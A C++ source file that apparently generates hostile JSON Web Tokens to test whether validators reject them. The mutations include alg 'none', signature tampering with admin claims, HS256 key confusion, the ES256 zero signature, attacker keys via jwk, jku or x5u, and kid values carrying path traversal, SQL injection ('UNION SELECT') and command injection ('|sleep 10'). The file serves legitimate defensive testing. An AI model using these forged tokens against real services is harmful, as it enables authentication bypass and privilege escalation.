// The hostile tokens (RFC 8725's attacks and jwt_tool's playbook: alg none, key confusion,
// embedded keys, kid injection, claim and time tampering). Each one breaks one rule and
// keeps the rest of the issuer's valid token, so a target that accepts it is wrong about
// exactly that rule.

#include <openssl/rand.h>

#include <cmath>
#include <map>
#include <mutex>

#include "crypto/mint_internal.h"
#include "tollgate/base/encoding.h"

namespace tollgate::jose {
namespace {

using json = nlohmann::json;
using Build = std::function<StatusOr<std::string>(const MintRequest&)>;

constexpr long long kDefaultLifetime = 300;  // for claims a mutation has to invent

// ---- keys ----------------------------------------------------------------------------

// The issuer's key as the target sees it: the published copy when there is one.
const Jwk& PublishedIssuerKey(const MintRequest& r) {
  if (r.issuer_keys != nullptr) {
    if (const Jwk* k = r.issuer_keys->Find(r.key->kid())) return *k;
  }
  return *r.key;
}

// A key of `alg` no issuer holds, under a kid never used before. The key material is made
// once per algorithm and process (an RSA key costs about 0.1 s, and a run mints many hostile
// tokens); it never comes from, or goes to, the recycled keys of mock issuers
// (Jwk::GenerateRecyclable), so it can never be a key some issuer publishes.
StatusOr<Jwk> FreshKey(Alg alg, const char* kid_prefix) {
  static std::mutex mu;
  static std::map<Alg, json>* material = new std::map<Alg, json>;
  json j;
  {
    std::lock_guard<std::mutex> lock(mu);
    auto it = material->find(alg);
    if (it == material->end()) {
      ASSIGN_OR_RETURN(Jwk probe, Jwk::Generate(alg, ""));
      it = material->emplace(alg, probe.ToPrivateJson()).first;
    }
    j = it->second;
  }
  // Keys are immutable: the kid goes in through a round trip of the private JWK.
  std::string nonce(12, '\0');
  if (RAND_bytes(reinterpret_cast<unsigned char*>(nonce.data()), 12) != 1) {
    return InternalError("no random bytes for a kid");
  }
  j["kid"] = std::string(kid_prefix) + Base64UrlEncode(nonce);
  return Jwk::FromJson(j);
}

// A key the target does not trust: the caller's attacker key (so a receiver can serve it at
// the jku URL), or a fresh one of the issuer's family (ES256 for an HMAC issuer, whose
// "public" JWK would say nothing).
StatusOr<Jwk> AttackerKey(const MintRequest& r) {
  if (r.attacker_key != nullptr) return *r.attacker_key;
  return FreshKey(r.key->alg() == Alg::kHS256 ? Alg::kES256 : r.key->alg(), "attacker-");
}

std::string AttackerUrlFor(const MintRequest& r, const char* path) {
  std::string base = r.attacker_url;
  while (!base.empty() && base.back() == '/') base.pop_back();
  return base + path;
}

// ---- building blocks -------------------------------------------------------------------

StatusOr<std::string> Valid(const MintRequest& r, const Draft& d) {
  return SignDraft(*r.key, r.key->alg(), d);
}

// The draft with `alg` and `kid` set as given (for tokens signed by some other key).
Draft WithAlgAndKid(const MintRequest& r, Alg alg, const std::string& kid) {
  Draft d = BaseDraft(r);
  d.header.Set("alg", AlgName(alg));
  d.header.Set("kid", kid);
  return d;
}

StatusOr<std::string> HmacSigned(const MintRequest& r, std::string_view secret,
                                 const std::string& kid) {
  Jwk key = Jwk::FromSecret(secret, kid);
  return SignDraft(key, Alg::kHS256, WithAlgAndKid(r, Alg::kHS256, kid));
}

// Splits "h.p.s" of a token this file made.
struct Segments {
  std::string header, payload, signature;
};
Segments Split(const std::string& token) {
  size_t a = token.find('.');
  size_t b = token.find('.', a + 1);
  return {token.substr(0, a), token.substr(a + 1, b - a - 1), token.substr(b + 1)};
}

std::optional<long long> NumberClaim(const Draft& d, const char* name) {
  std::optional<json> v = d.claims.Get(name);
  if (!v || !v->is_number()) return std::nullopt;
  double x = v->get<double>();
  if (!std::isfinite(x)) return std::nullopt;
  return static_cast<long long>(std::llround(x));
}

// Moves exp to `exp` and iat/nbf with it, so the token's window keeps its length and the
// only defect is where it sits in time.
void MoveWindow(Draft& d, const MintRequest& r, long long exp) {
  std::optional<long long> old_exp = NumberClaim(d, "exp");
  long long delta = exp - old_exp.value_or(r.now + kDefaultLifetime);
  for (const char* name : {"iat", "nbf"}) {
    if (auto v = NumberClaim(d, name)) d.claims.Set(name, *v + delta);
  }
  d.claims.Set("exp", exp);
}

// Sets a start-of-window claim (nbf, iat) and keeps exp after it.
void SetStart(Draft& d, const char* name, long long value) {
  d.claims.Set(name, value);
  std::optional<long long> exp = NumberClaim(d, "exp");
  if (!exp || *exp < value + kDefaultLifetime) d.claims.Set("exp", value + kDefaultLifetime);
}

std::string Suffixed(const json& value) {
  return value.is_string() ? value.get<std::string>() + ".attacker.invalid"
                           : "https://attacker.invalid";
}

// ---- the mutations -----------------------------------------------------------------------

Build AlgNone(std::string spelling) {
  return [spelling](const MintRequest& r) -> StatusOr<std::string> {
    Draft d = BaseDraft(r);
    d.header.Set("alg", spelling);
    return SigningInput(d.header.Text(), d.claims.Text()) + ".";
  };
}

Build WithDraft(std::function<void(Draft&, const MintRequest&)> change) {
  return [change](const MintRequest& r) {
    Draft d = BaseDraft(r);
    change(d, r);
    return Valid(r, d);
  };
}

// Signs the correct token, then swaps in a changed header or payload: the signature is the
// issuer's, over other bytes.
Build KeepSignature(std::function<void(Draft&)> change) {
  return [change](const MintRequest& r) -> StatusOr<std::string> {
    Draft d = BaseDraft(r);
    ASSIGN_OR_RETURN(std::string token, Valid(r, d));
    std::string signature = Split(token).signature;
    change(d);
    return SigningInput(d.header.Text(), d.claims.Text()) + "." + signature;
  };
}

StatusOr<std::string> EmptySignature(const MintRequest& r) {
  ASSIGN_OR_RETURN(std::string token, Valid(r, BaseDraft(r)));
  Segments s = Split(token);
  return s.header + "." + s.payload + ".";
}

StatusOr<std::string> BadSignature(const MintRequest& r) {
  ASSIGN_OR_RETURN(std::string token, Valid(r, BaseDraft(r)));
  Segments s = Split(token);
  std::string sig = *Base64UrlDecode(s.signature);
  if (sig.empty()) return InternalError("the issuer's signature is empty");
  sig[sig.size() / 2] = static_cast<char>(sig[sig.size() / 2] ^ 0x01);
  return s.header + "." + s.payload + "." + Base64UrlEncode(sig);
}

Build HmacWithPublicKey(bool pem, bool newline) {
  return [pem, newline](const MintRequest& r) -> StatusOr<std::string> {
    const Jwk& published = PublishedIssuerKey(r);
    std::string secret = pem ? published.PublicPem() : JsonText(published.ToPublicJson());
    if (pem && secret.empty()) {
      return FailedPreconditionError("needs an asymmetric issuer key (its PEM is the HMAC key)");
    }
    if (!newline) {
      while (!secret.empty() && (secret.back() == '\n' || secret.back() == '\r')) secret.pop_back();
    }
    return HmacSigned(r, secret, r.key->kid());
  };
}

StatusOr<std::string> Es256ZeroSignature(const MintRequest& r) {
  Draft d = WithAlgAndKid(r, Alg::kES256, r.key->kid());
  return SigningInput(d.header.Text(), d.claims.Text()) + "." +
         Base64UrlEncode(std::string(64, '\0'));
}

// Signed by an attacker key whose whereabouts the header gives (`member` = jwk, jku, x5u).
Build AttackerSigned(const char* member, const char* path) {
  return [member, path](const MintRequest& r) -> StatusOr<std::string> {
    if (path != nullptr && r.attacker_url.empty()) {
      return InvalidArgumentError("needs attacker_url (where the header points)");
    }
    ASSIGN_OR_RETURN(Jwk attacker, AttackerKey(r));
    Draft d = WithAlgAndKid(r, attacker.alg(), attacker.kid());
    if (path == nullptr) {
      d.header.Set(member, attacker.ToPublicJson());
    } else {
      d.header.Set(member, AttackerUrlFor(r, path));
    }
    return SignDraft(attacker, attacker.alg(), d);
  };
}

StatusOr<std::string> UnknownKid(const MintRequest& r) {
  ASSIGN_OR_RETURN(Jwk fresh, FreshKey(r.key->alg(), "unknown-"));
  return SignDraft(fresh, r.key->alg(), WithAlgAndKid(r, r.key->alg(), fresh.kid()));
}

StatusOr<std::string> DuplicateAlgMember(const MintRequest& r) {
  Draft base = BaseDraft(r);
  Draft d;
  d.header.Set("alg", AlgName(r.key->alg()));
  d.header.Append("alg", "none");
  // The rest of the header, after the two algs.
  Members rest = base.header;
  rest.Remove("alg");
  std::string rest_text = rest.Text();  // "{...}"
  std::string header = d.header.Text();
  if (rest_text.size() > 2)
    header = header.substr(0, header.size() - 1) + "," + rest_text.substr(1);
  return Finish(*r.key, r.key->alg(), SigningInput(header, base.claims.Text()));
}

// The valid exp first, an expired one last. RFC 7519 §4 lets a parser reject duplicates or
// keep the last, and either refuses this token; only a first-wins parser reads the valid exp
// and accepts it. (A duplicate the validator never reads, such as a second sub, would be
// accepted by every last-wins parser too, and prove nothing about the target.)
StatusOr<std::string> DuplicateClaim(const MintRequest& r) {
  Draft d = BaseDraft(r);
  if (!NumberClaim(d, "exp")) d.claims.Set("exp", r.now + kDefaultLifetime);
  d.claims.Append("exp", r.now - r.leeway_seconds - 60);
  return Valid(r, d);
}

StatusOr<std::string> PaddedBase64(const MintRequest& r) {
  Draft d = BaseDraft(r);
  std::string payload = d.claims.Text();
  // Padding exists only when the length is not a multiple of 3; JSON allows trailing space.
  if (payload.size() % 3 == 0) payload += ' ';
  std::string padded = Base64UrlEncode(payload) + (payload.size() % 3 == 1 ? "==" : "=");
  // Signed over the padded text as sent, so padding is the only defect.
  return Finish(*r.key, r.key->alg(), Base64UrlEncode(d.header.Text()) + "." + padded);
}

std::string StandardUnpadded(std::string_view bytes) {
  std::string s = Base64Encode(bytes);
  while (!s.empty() && s.back() == '=') s.pop_back();
  return s;
}

StatusOr<std::string> PlusSlashBase64(const MintRequest& r) {
  Draft d = BaseDraft(r);
  std::string payload = StandardUnpadded(d.claims.Text());
  if (payload.find_first_of("+/") == std::string::npos) {
    // Six 0x7E bytes hold an aligned triple whatever the offset, and 0x7E7E7E encodes as
    // "fn5+": the standard alphabet now differs from the URL one.
    d.claims.Set("tollgate_pad", "~~~~~~");
    payload = StandardUnpadded(d.claims.Text());
  }
  return Finish(*r.key, r.key->alg(), Base64UrlEncode(d.header.Text()) + "." + payload);
}

StatusOr<std::string> JwsJsonSerialization(const MintRequest& r) {
  ASSIGN_OR_RETURN(std::string token, Valid(r, BaseDraft(r)));
  Segments s = Split(token);
  Members flat;
  flat.Set("protected", s.header);
  flat.Set("payload", s.payload);
  flat.Set("signature", s.signature);
  return flat.Text();
}

StatusOr<std::string> FiveSegments(const MintRequest& r) {
  Draft d = BaseDraft(r);
  Members header;
  header.Set("alg", "dir");
  header.Set("enc", "A256GCM");
  if (!r.key->kid().empty()) header.Set("kid", r.key->kid());
  // RFC 7516 §7.1 shape: header, empty encrypted key (dir), IV, ciphertext, tag.
  return Base64UrlEncode(header.Text()) + ".." + Base64UrlEncode(std::string(12, '\0')) + "." +
         Base64UrlEncode(d.claims.Text()) + "." + Base64UrlEncode(std::string(16, '\0'));
}

MutationDef M(const char* name, const char* description, Build build, bool accepted = false) {
  return MutationDef{MutationInfo{name, description, accepted}, std::move(build)};
}

std::vector<MutationDef> BuildTable() {
  std::vector<MutationDef> t;
  // alg none and its spellings (RFC 8725 §2.1; CVE-2015-2951).
  t.push_back(M("alg_none", "alg \"none\" with an empty signature.", AlgNone("none")));
  t.push_back(M("alg_none_capital", "alg \"None\" with an empty signature.", AlgNone("None")));
  t.push_back(M("alg_none_upper", "alg \"NONE\" with an empty signature.", AlgNone("NONE")));
  t.push_back(M("alg_none_mixed", "alg \"nOnE\" with an empty signature.", AlgNone("nOnE")));
  // Signature integrity (RFC 7515 §5.2).
  t.push_back(
      M("empty_signature", "The issuer's alg kept, the signature segment empty.", EmptySignature));
  t.push_back(M("bad_signature", "The issuer's signature with one bit flipped.", BadSignature));
  t.push_back(M("tampered_payload",
                "Claims escalated (sub \"admin\", \"admin\": true) under the original signature.",
                KeepSignature([](Draft& d) {
                  d.claims.Set("sub", "admin");
                  d.claims.Set("admin", true);
                })));
  t.push_back(M("tampered_header", "A member added to the header under the original signature.",
                KeepSignature([](Draft& d) { d.header.Set("tollgate_tampered", true); })));
  // Key confusion (RFC 8725 §2.1, §3.1; CVE-2016-10555).
  t.push_back(M("hs256_public_key_pem",
                "HS256 keyed with the issuer's public key as SPKI PEM, trailing newline included.",
                HmacWithPublicKey(true, true)));
  t.push_back(
      M("hs256_public_key_pem_no_newline",
        "HS256 keyed with the issuer's public key as SPKI PEM without the trailing newline.",
        HmacWithPublicKey(true, false)));
  t.push_back(M("hs256_public_key_jwk",
                "HS256 keyed with the compact JSON text of the issuer's public JWK.",
                HmacWithPublicKey(false, true)));
  t.push_back(
      M("es256_zero_signature",
        "alg ES256 with r = s = 0 (64 zero bytes), the psychic signature of CVE-2022-21449.",
        Es256ZeroSignature));
  // Keys the token brings along (RFC 8725 §3.10; CVE-2018-0114).
  t.push_back(M("embedded_jwk", "Signed by an attacker key that the header embeds as jwk.",
                AttackerSigned("jwk", nullptr)));
  t.push_back(M("jku_injection", "Signed by an attacker key; jku points at the attacker's JWKS.",
                AttackerSigned("jku", "/jwks.json")));
  t.push_back(M("x5u_injection",
                "Signed by an attacker key; x5u points at the attacker's certificate.",
                AttackerSigned("x5u", "/cert.pem")));
  // kid injection (jwt_tool playbook).
  t.push_back(
      M("kid_path_traversal", "kid \"../../../../../../dev/null\" with HS256 and an empty key.",
        [](const MintRequest& r) { return HmacSigned(r, "", "../../../../../../dev/null"); }));
  t.push_back(M("kid_sql_injection", "kid \"x' UNION SELECT '1';--\" with HS256 keyed \"1\".",
                [](const MintRequest& r) { return HmacSigned(r, "1", "x' UNION SELECT '1';--"); }));
  t.push_back(M(
      "kid_command_injection", "kid \"|sleep 10\", otherwise signed by the issuer's key.",
      [](const MintRequest& r) { return Valid(r, WithAlgAndKid(r, r.key->alg(), "|sleep 10")); }));
  t.push_back(M("unknown_kid", "Validly signed by a fresh key that the issuer never published.",
                UnknownKid));
  t.push_back(M("hs256_blank_secret", "HS256 with an empty key under the issuer's kid.",
                [](const MintRequest& r) { return HmacSigned(r, "", r.key->kid()); }));
  // Claims and header policy (RFC 7519 §4.1, RFC 9068).
  t.push_back(M("wrong_issuer", "iss of another issuer (the real one with a suffix).",
                WithDraft([](Draft& d, const MintRequest&) {
                  d.claims.Set("iss", Suffixed(d.claims.Get("iss").value_or(json())));
                })));
  t.push_back(M("missing_issuer", "No iss claim.",
                WithDraft([](Draft& d, const MintRequest&) { d.claims.Remove("iss"); })));
  t.push_back(M("wrong_audience", "aud naming another resource.",
                WithDraft([](Draft& d, const MintRequest&) {
                  json aud = d.claims.Get("aud").value_or(json());
                  if (aud.is_array()) {
                    json other = json::array();
                    for (const json& a : aud) other.push_back(Suffixed(a));
                    d.claims.Set("aud", other.empty() ? json::array({Suffixed(json())}) : other);
                  } else {
                    d.claims.Set("aud", Suffixed(aud));
                  }
                })));
  t.push_back(M("missing_audience", "No aud claim.",
                WithDraft([](Draft& d, const MintRequest&) { d.claims.Remove("aud"); })));
  t.push_back(M("wrong_typ", "typ \"JWT\" (an ID-token style type) instead of the issuer's.",
                WithDraft([](Draft& d, const MintRequest&) {
                  json typ = d.header.Get("typ").value_or(json());
                  bool already_jwt = typ.is_string() && (typ == "JWT" || typ == "jwt");
                  d.header.Set("typ", already_jwt ? "dpop+jwt" : "JWT");
                })));
  t.push_back(M("missing_typ", "No typ header.",
                WithDraft([](Draft& d, const MintRequest&) { d.header.Remove("typ"); })));
  t.push_back(M("wrong_scope", "scope replaced by \"tollgate:unrelated\".",
                WithDraft([](Draft& d, const MintRequest&) {
                  d.claims.Remove("scp");
                  d.claims.Set("scope", "tollgate:unrelated");
                })));
  t.push_back(
      M("missing_scope", "No scope (nor scp) claim.", WithDraft([](Draft& d, const MintRequest&) {
          d.claims.Remove("scope");
          d.claims.Remove("scp");
        })));
  // Time (RFC 7519 §4.1.4-4.1.6; catalogue TK-01..TK-04).
  t.push_back(M("expired", "exp 60 s further in the past than the leeway allows.",
                WithDraft([](Draft& d, const MintRequest& r) {
                  MoveWindow(d, r, r.now - r.leeway_seconds - 60);
                })));
  t.push_back(M("expired_at_leeway_edge", "exp 5 s further in the past than the leeway allows.",
                WithDraft([](Draft& d, const MintRequest& r) {
                  MoveWindow(d, r, r.now - r.leeway_seconds - 5);
                })));
  t.push_back(M("within_leeway", "Positive control: exp 5 s in the past, inside the leeway.",
                WithDraft([](Draft& d, const MintRequest& r) {
                  MoveWindow(d, r, r.now - r.leeway_seconds + 5);
                }),
                true));
  t.push_back(M("not_yet_valid", "nbf 60 s further in the future than the leeway allows.",
                WithDraft([](Draft& d, const MintRequest& r) {
                  SetStart(d, "nbf", r.now + r.leeway_seconds + 60);
                })));
  t.push_back(M("nbf_within_leeway",
                "Positive control: nbf in the future by 5 s less than the leeway.",
                WithDraft([](Draft& d, const MintRequest& r) {
                  SetStart(d, "nbf", r.now + r.leeway_seconds - 5);
                }),
                true));
  t.push_back(M("issued_in_future", "iat 60 s further in the future than the leeway allows.",
                WithDraft([](Draft& d, const MintRequest& r) {
                  SetStart(d, "iat", r.now + r.leeway_seconds + 60);
                })));
  t.push_back(M("missing_exp", "No exp claim.",
                WithDraft([](Draft& d, const MintRequest&) { d.claims.Remove("exp"); })));
  t.push_back(M("exp_as_string", "exp as a JSON string of digits instead of a number.",
                WithDraft([](Draft& d, const MintRequest& r) {
                  long long exp = NumberClaim(d, "exp").value_or(r.now + kDefaultLifetime);
                  d.claims.Set("exp", std::to_string(exp));
                })));
  t.push_back(M("exp_overflow", "exp 18446744073709551616 (2^64), past every integer type.",
                WithDraft([](Draft& d, const MintRequest&) {
                  d.claims.SetRaw("exp", "18446744073709551616");
                })));
  // JSON and serialisation (RFC 7515 §2, §5.2, §7; RFC 7516).
  t.push_back(M("duplicate_alg_member",
                "Header {\"alg\":<real>,\"alg\":\"none\",...}, signed with the issuer's key.",
                DuplicateAlgMember));
  t.push_back(
      M("duplicate_claim",
        "Two exp members in the claims: the valid one first, an expired one last (as `expired`).",
        DuplicateClaim));
  t.push_back(M("crit_unknown", "crit [\"tollgate-ext\"] with that member present, validly signed.",
                WithDraft([](Draft& d, const MintRequest&) {
                  d.header.Set("crit", json::array({"tollgate-ext"}));
                  d.header.Set("tollgate-ext", true);
                })));
  t.push_back(
      M("crit_empty", "crit [] (RFC 7515 §4.1.11 forbids an empty list), validly signed.",
        WithDraft([](Draft& d, const MintRequest&) { d.header.Set("crit", json::array()); })));
  t.push_back(
      M("padded_base64", "'=' padding on the payload segment (signed as sent).", PaddedBase64));
  t.push_back(
      M("plus_slash_base64",
        "Payload segment in the standard base64 alphabet, with '+' or '/' (signed as sent).",
        PlusSlashBase64));
  t.push_back(M("jws_json_serialization",
                "The valid token in flattened JWS JSON serialisation instead of compact.",
                JwsJsonSerialization));
  t.push_back(M("five_segments", "A JWE-shaped token: five dot-separated segments.", FiveSegments));
  return t;
}

}  // namespace

const std::vector<MutationDef>& MutationTable() {
  static const std::vector<MutationDef> kTable = BuildTable();
  return kTable;
}

}  // namespace tollgate::jose
